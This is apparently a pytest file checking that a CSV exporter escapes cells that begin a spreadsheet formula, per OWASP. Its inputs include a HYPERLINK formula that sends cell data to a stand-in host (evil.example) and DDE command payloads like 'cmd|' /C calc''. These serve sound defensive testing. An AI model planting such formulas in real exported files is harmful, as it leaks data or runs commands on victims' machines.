"""storage.export: a CSV cell a spreadsheet would run as a formula is neutralised (OWASP)."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

from storage.export import _cells, export
from storage.store import Store
from tests.storage.conftest import REAL_FILES, ingest


def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    db = tmp_path / "nianbao.db"
    with Store(db) as store:
        ingest(store, REAL_FILES[0])
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"年报")'
    with sqlite3.connect(db) as conn:  # as a page could have it: agency and notes are page text
        conn.execute("update reports set agency = ?", [hostile])
    conn.close()
    with Store(db) as store:
        export(store, "csv", str(tmp_path / "out"), None, None)
    with (tmp_path / "out" / "cells.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["agency"] for r in rows} == {"'" + hostile}
    with (tmp_path / "out" / "findings.csv").open(encoding="utf-8", newline="") as fh:
        assert {r["agency"] for r in csv.DictReader(fh)} <= {"'" + hostile}
    # Every start OWASP names; numbers, written as numbers or as text, stay numbers.
    row = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+cmd", "\t=1", "\r=1", "-5", -5, "+3.5", 2.0, "年报", None]
    assert _cells(row) == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1", "'-1+cmd", "'\t=1", "'\r=1", "-5", -5, "+3.5",
                           2.0, "年报", None]  # fmt: skip
